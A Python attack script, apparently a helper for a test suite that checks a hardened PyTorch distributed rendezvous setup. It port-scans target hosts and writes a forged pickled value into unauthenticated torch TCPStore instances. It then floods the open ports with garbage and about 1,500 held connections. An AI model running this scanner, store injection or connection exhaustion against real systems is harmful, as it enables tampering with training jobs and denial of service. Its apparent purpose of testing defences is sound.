"""An attacker without the secret on another host: connect to every open port and send messages.

    python attacker.py ADDRESS ...

Prints the open ports, and what it could read, as JSON.
"""

from __future__ import annotations

import json
import os
import pickle
import selectors
import socket
import struct
import sys
import time
from contextlib import suppress
from datetime import timedelta

from torch.distributed import TCPStore

Place = tuple[str, int]
BATCH, EXHAUSTING = 1000, 1500


def find(addresses: list[str]) -> list[Place]:
    """Return every port that accepts a connection; a thousand are probed at a time."""
    places = [(address, port) for address in addresses for port in range(1024, 65536)]
    return [
        place
        for first in range(0, len(places), BATCH)
        for place in accepting(places[first : first + BATCH])
    ]


def accepting(places: list[Place]) -> list[Place]:
    """Return the places that accept a connection within a second."""
    found = []
    with selectors.DefaultSelector() as selector:
        for place in places:
            probe = socket.socket()
            probe.setblocking(False)
            probe.connect_ex(place)
            selector.register(probe, selectors.EVENT_WRITE, place)
        deadline = time.monotonic() + 1
        while selector.get_map() and time.monotonic() < deadline:
            for key, _ in selector.select(0.1):
                probe = key.fileobj  # type: ignore[assignment]
                if probe.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(key.data)
                selector.unregister(probe)
                probe.close()
        for key in list(selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
    return found


def read_and_write(place: Place) -> str:
    """Access a store as torchrun would; return what was read, or nothing."""
    try:
        store = TCPStore(*place, is_master=False, timeout=timedelta(seconds=2))
        store.set("torch.rendezvous.fedsys", pickle.dumps(ValueError("forged")).decode("latin-1"))
        return f"{store.num_keys()} keys"
    except RuntimeError:
        return ""


def disturb(place: Place) -> None:
    """Send messages of the protocol and garbage; leave half of the connections open."""
    numbers = [struct.pack("<q", number) for number in (*range(64), -1)]
    garbage = [b"", b"\0", os.urandom(8), os.urandom(65536), b"GET / HTTP/1.1\r\n\r\n"]
    for message in (*numbers, *garbage):
        for is_kept in (True, False):
            with suppress(OSError):
                connection = socket.create_connection(place, timeout=2)
                connection.sendall(message)
                if is_kept:
                    kept.append(connection)
                else:
                    connection.close()
    with suppress(OSError):
        for _ in range(EXHAUSTING):
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex(place)
            kept.append(connection)


kept: list[socket.socket] = []


def is_own(address: str) -> bool:
    """Return whether an address belongs to this host, which must not be attacked."""
    with socket.socket() as probe:
        try:
            probe.bind((address, 0))
        except OSError:
            return False
        return True


if __name__ == "__main__":
    if any(map(is_own, sys.argv[1:])):
        sys.exit("attacker.py: run it on another host than its targets, as test_doors.py does")
    found = find(sys.argv[1:])
    stolen = {f"{host}:{port}": read_and_write((host, port)) for host, port in found}
    for place in found:
        disturb(place)
    time.sleep(3)
    print(json.dumps({"open": found, "stolen": stolen}))
